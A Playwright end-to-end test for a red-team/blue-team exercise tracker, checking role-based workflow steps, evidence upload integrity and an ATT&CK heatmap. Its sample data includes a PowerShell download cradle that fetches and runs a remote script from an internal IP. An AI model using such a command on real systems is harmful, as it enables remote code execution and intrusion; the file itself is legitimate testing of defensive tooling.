import { createHash } from "node:crypto";
import { readFile } from "node:fs/promises";
import { expect, test, type Page } from "@playwright/test";
import { signIn, snap } from "./accounts";

const ACTIONS = ["Start execution", "Submit red report", "Start evaluation", "Submit blue report", "Validate (red)", "Validate (blue)", "Reopen", "Pause timer", "Resume timer"];

/** The workflow buttons the page offers, in order. */
async function offeredActions(page: Page): Promise<string[]> {
  const offered: string[] = [];
  for (const name of ACTIONS) {
    if (await page.getByRole("button", { name, exact: true }).isVisible()) offered.push(name);
  }
  return offered;
}

async function expectActions(page: Page, expected: string[]): Promise<void> {
  await expect(page.getByRole("heading", { level: 1 })).toBeVisible();
  await expect.poll(() => offeredActions(page)).toEqual(expected);
}

test("a test goes from draft to validated, each role seeing only its own steps", async ({ page }) => {
  const title = `PowerShell download cradle ${Date.now()}`;

  // The red lead plans it.
  await signIn(page, "redLead");
  await page.getByRole("link", { name: "Tests" }).click();
  await page.getByRole("button", { name: "New test" }).click();
  const dialog = page.getByRole("dialog", { name: "New test" });
  await dialog.getByLabel("Title").fill(title);
  await dialog.getByLabel("Technique").fill("T1059.001");
  await dialog.getByLabel("Platform").fill("Windows");
  await dialog.getByRole("button", { name: "Create test" }).click();
  await expect(page.getByRole("heading", { name: title })).toBeVisible();
  const url = page.url();
  await expectActions(page, ["Start execution"]);

  // Nobody on blue, and no viewer, may start it.
  for (const account of ["blueTech", "viewer"] as const) {
    await signIn(page, account);
    await page.goto(url);
    await expectActions(page, []);
  }

  // The red operator runs it, records what was done and attaches evidence.
  await signIn(page, "redTech");
  await page.goto(url);
  await page.getByRole("button", { name: "Start execution" }).click();
  await expectActions(page, ["Submit red report", "Pause timer"]);
  await page.getByLabel("Procedure").fill("Download and run a script in memory");
  await page.getByLabel("Command").fill("powershell -nop -c \"iex (iwr http://10.0.0.5/a.ps1)\"");
  await page.getByLabel("Executed at").fill("2026-11-29T10:00");
  await page.getByLabel("Result summary").fill("The script ran and beaconed.");
  await page.getByRole("button", { name: "Save red report" }).click();
  await expect(page.getByText("Saved.")).toBeVisible();

  const evidence = Buffer.from("proxy log line: GET /a.ps1 200\n".repeat(2000));
  const digest = createHash("sha256").update(evidence).digest("hex");
  await page.getByLabel("Evidence file").setInputFiles({ name: "proxy.log", mimeType: "text/plain", buffer: evidence });
  await page.getByRole("button", { name: "Upload", exact: true }).click();
  await expect(page.getByRole("status").filter({ hasText: "Uploaded proxy.log" })).toContainText(digest);
  const download = page.waitForEvent("download");
  await page.getByRole("link", { name: /^Download/ }).first().click();
  const file = await (await download).path();
  expect(createHash("sha256").update(await readFile(file)).digest("hex")).toBe(digest);
  await snap(page, "test-detail-red");
  await page.getByRole("button", { name: "Submit red report" }).click();
  await expectActions(page, []);

  // Blue picks it up (its timer starts then, not when red submitted) and evaluates; red may
  // no longer act.
  await signIn(page, "blueTech");
  await page.goto(url);
  await expectActions(page, ["Start evaluation", "Submit blue report"]);
  await page.getByRole("button", { name: "Start evaluation" }).click();
  await expectActions(page, ["Submit blue report", "Pause timer"]);
  await page.getByLabel("Outcome").selectOption("detected");
  await page.getByLabel("Detected at").fill("2026-11-29T10:04");
  await page.getByLabel("Detection notes").fill("EDR flagged the in-memory download.");
  await page.getByRole("button", { name: "Save blue report" }).click();
  await expect(page.getByText("Saved.")).toBeVisible();
  await page.getByRole("button", { name: "Submit blue report" }).click();
  await expectActions(page, []);

  // Each lead votes for their own team only.
  await signIn(page, "redLead");
  await page.goto(url);
  await expectActions(page, ["Validate (red)"]);
  await page.getByRole("button", { name: "Validate (red)" }).click();
  await page.getByRole("button", { name: "Approve" }).click();
  await expectActions(page, ["Validate (red)"]);

  await signIn(page, "blueLead");
  await page.goto(url);
  await expectActions(page, ["Validate (blue)"]);
  await page.getByRole("button", { name: "Validate (blue)" }).click();
  await page.getByRole("button", { name: "Approve" }).click();
  await expect(page.getByText("Validated", { exact: true }).first()).toBeVisible();
  await expectActions(page, ["Reopen"]);
  await snap(page, "test-detail-validated");

  // The heatmap shows the validation on the technique's cell.
  await page.goto("/heatmap?colour=status");
  const cell = page.getByRole("link", { name: /^T1059\.001 PowerShell: score \d+, (Validated|Partial)/ });
  await page.getByRole("button", { name: /Show \d+ sub-techniques of T1059/ }).first().click();
  await expect(cell.first()).toBeVisible();
  await snap(page, "heatmap-after-validation");
  await cell.first().click();
  await expect(page.getByRole("heading", { name: /PowerShell/ })).toBeVisible();
  await expect(page.getByText(/^[1-9]\d* validated, \d+ open tests$/)).toBeVisible();
});
